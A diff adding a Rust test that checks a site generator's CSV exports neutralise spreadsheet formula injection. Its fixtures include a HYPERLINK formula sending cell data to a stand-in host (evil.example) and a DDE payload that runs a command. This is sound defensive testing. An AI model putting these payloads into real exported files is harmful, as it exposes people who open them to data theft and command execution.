@@ -226,3 +226,51 @@ fn relative_links_in_a_bundle_and_a_translation() {
         out.stderr
     );
 }
+
+#[test]
+fn csv_cells_cannot_become_formulas() {
+    let site = Site::fixture("basic");
+    let d = "content/disclosures/lich-tiep-dan.md";
+    site.edit(
+        d,
+        "title: \"Lịch tiếp công dân tháng 11\"\n",
+        "title: '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")'\nnumber: \"+cmd|' /C calc'!A0\"\ndoc_type: \"@SUM(1+1)\"\nissuer: \"-2+3\"\n",
+    );
+    site.edit("data/units.yaml", "head: \"Chánh Văn phòng\"", "head: \"\\tTab\"");
+    site.build_ok();
+    assert!(site.out("data/units.csv").contains("'\tTab"));
+    let csv = site.out("data/disclosures.csv");
+    for cell in [
+        r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#,
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3",
+    ] {
+        assert!(csv.contains(cell), "`{cell}` not neutralised:\n{csv}");
+    }
+    // Every cell of every CSV: none starts with a character a spreadsheet runs.
+    for file in ["data/disclosures.csv", "data/tasks.csv", "data/units.csv"] {
+        let text = site.out(file);
+        let mut reader = csv_reader(&text);
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: `{cell}`");
+            }
+        }
+    }
+    // JSON keeps the exact text.
+    let json: serde_json::Value = serde_json::from_str(&site.out("data/disclosures.json")).unwrap();
+    let item = json["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|i| i["id"] == "lich-tiep-dan")
+        .unwrap();
+    assert_eq!(item["title"], r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#);
+    assert_eq!(item["number"], "+cmd|' /C calc'!A0");
+    assert_eq!(item["doc_type"], "@SUM(1+1)");
+}
+
+fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
+    csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes())
+}
